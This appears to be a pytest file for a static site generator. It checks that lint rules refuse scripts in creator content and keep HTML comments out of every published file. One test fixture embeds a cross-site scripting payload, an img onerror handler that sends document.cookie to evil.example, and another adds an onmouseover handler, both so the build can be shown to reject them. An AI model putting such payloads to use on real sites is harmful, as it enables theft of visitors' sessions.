"""Raw HTML in content: scripts never reach the site, notes to self are never published.

The rule family HUB18x has one failing case per rule in test_lint_rules.py;
these tests cover what a creator meets around it: a build that refuses, a
setting that cannot switch the script rule off, HTML shown as code that is
fine, and HTML comments that stay out of every published file.
"""

from __future__ import annotations

import datetime as dt
import json
import textwrap
from pathlib import Path

import feedparser

from contentkit import MINIMAL, lint_content, write_content
from conftest import run_hubgen

UPDATE = "updates/2026-11-18-hello.md"
TODAY = dt.date(2026, 11, 20)


def update(body: str) -> str:
    return f"---\ntitle: Hello backers\ndate: 2026-11-18\n---\n{body}\n"


def lint(root: Path, changes: dict) -> list:
    return lint_content(root, changes, TODAY)


def test_build_refuses_content_with_a_script_and_says_where(tmp_path):
    content = write_content(tmp_path, {UPDATE: update(
        "We are shipping!\n\n<img src=/assets/x.png onerror=\"fetch('//evil.example/'+document.cookie)\">")})
    result = run_hubgen("build", str(content), "-o", str(tmp_path / "site"))
    assert result.returncode == 1, result.stdout + result.stderr
    assert f"{UPDATE}:7:" in result.stdout + result.stderr
    assert "HUB180" in result.stdout + result.stderr
    assert not (tmp_path / "site").exists()


def test_script_rule_cannot_be_switched_off_by_settings_or_comments(tmp_path):
    hub = textwrap.dedent(MINIMAL["hub.yaml"]) + "settings:\n  lint:\n    ignore: [HUB180]\n"
    body = "<!-- hubgen: ignore HUB180 -->\n<script>alert('hi')</script>"
    found = lint(tmp_path, {"hub.yaml": hub, UPDATE: update(body)})
    assert [d.code for d in found if d.code == "HUB180"] == ["HUB180"]
    (setting,) = [d for d in found if d.code == "HUB023"]
    assert "'HUB180', which cannot be turned off" in setting.message


def test_other_html_rules_can_be_made_warnings(tmp_path):
    """An embedded video is the creator's call; a script is not."""
    hub = textwrap.dedent(MINIMAL["hub.yaml"]) + "settings:\n  lint:\n    severity:\n      HUB182: warning\n"
    found = lint(tmp_path, {"hub.yaml": hub, UPDATE: update('<iframe src="https://v.example/1"></iframe>')})
    assert [(d.code, d.severity) for d in found] == [("HUB182", "warning")]


def test_html_shown_as_code_and_harmless_html_are_fine(tmp_path):
    body = textwrap.dedent("""\
        To embed our widget, paste `<script src="widget.js"></script>` into your page:

        ```html
        <iframe src="https://video.example/embed/1" onload="x()"></iframe>
        ```

            <form action="https://indented.example/"></form>

        <details><summary>Spoilers</summary>The box is <kbd>blue</kbd>.</details>

        ![Our box](/assets/box.png) and ![again](https://help.kettle.example/assets/box.png)
        <https://example.com/a> and [the campaign](https://www.kickstarter.com/projects/test/kettle)
        """)
    found = lint(tmp_path, {UPDATE: update(body)})
    assert [d.text() for d in found if d.code.startswith("HUB18")] == []


def test_attribute_lists_cannot_add_handlers(tmp_path):
    found = lint(tmp_path, {UPDATE: update('[Read the FAQ](/faq/){ onmouseover="steal()" }')})
    (hit,) = [d for d in found if d.code == "HUB180"]
    assert "onmouseover" in hit.message
    assert str(hit.location) == f"content/{UPDATE}:5:24"


def test_html_comments_are_published_nowhere(tmp_path):
    note = "margin is 40 percent, do not tell backers"
    changes = {
        UPDATE: update(f"Tooling is done.\n\n<!-- {note} -->\n\nProduction starts Monday."),
        "faq.yaml": MINIMAL["faq.yaml"].replace(
            "a: In **March**.", f"a: In **March**. <!-- {note} -->"),
        "refund-policy.md": MINIMAL["refund-policy.md"] + f"\n<!--\n{note}\n-->\n",
    }
    content = write_content(tmp_path, changes)
    site = tmp_path / "site"
    result = run_hubgen("build", str(content), "-o", str(site))
    assert result.returncode == 0, result.stdout + result.stderr
    leaks = [p.relative_to(site).as_posix() for p in site.rglob("*") if p.is_file()
             and note in p.read_text(encoding="utf-8", errors="replace")]
    assert leaks == []
    # The text around each comment is still there.
    assert "Production starts Monday." in (site / "updates" / "2026-11-18-hello" / "index.html").read_text()
    entry = feedparser.parse((site / "feed.xml").read_bytes()).entries[0]
    assert "Production starts Monday." in entry.content[0].value
    docs = json.loads((site / "search" / "search_index.json").read_text(encoding="utf-8"))["docs"]
    assert any("In March." in doc["text"] for doc in docs if doc["location"] == "faq/#when-ship")
